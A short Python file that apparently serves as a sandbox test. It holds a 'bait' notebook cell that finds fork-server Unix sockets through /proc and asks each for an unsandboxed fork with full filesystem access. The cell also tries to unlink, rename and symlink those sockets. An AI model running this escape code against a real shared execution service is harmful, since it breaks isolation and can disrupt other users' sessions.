"""Finds the fork servers' sockets in /proc/net/unix and asks for a fork of its own without a sandbox."""

BAIT_CELL = r"""
import glob, os, socket, struct
import msgpack

with open("/proc/self/net/unix") as file:
    paths = sorted({line.split()[-1] for line in file if "course-" in line or "/k-" in line})
print(len(paths), "sockets")
request = msgpack.packb(
    {
        "unsafe": True,
        "memory_mb": 4096,
        "cpu_seconds": 100,
        "folder": "/",
        "connection": {},
        "from_scratch": [],
    }
)


def ask(path, kind):
    left, right = socket.socketpair() if kind == "pair" else (socket.socket(socket.AF_UNIX), None)
    left.connect(path)
    left.sendall(struct.pack(">I", len(request)) + request)
    return left.recv(100)


for path in paths[:40]:
    tried(
        lambda: ask(path, "socket"),
        lambda: ask(path, "pair"),
        lambda: open(path, "r+b"),
        lambda: os.unlink(path),
        lambda: os.listdir(os.path.dirname(path)),
    )
tried(
    lambda: os.rename(paths[0], paths[0] + "x"), lambda: os.symlink("x", os.path.dirname(paths[0]) + "/x")
)
"""
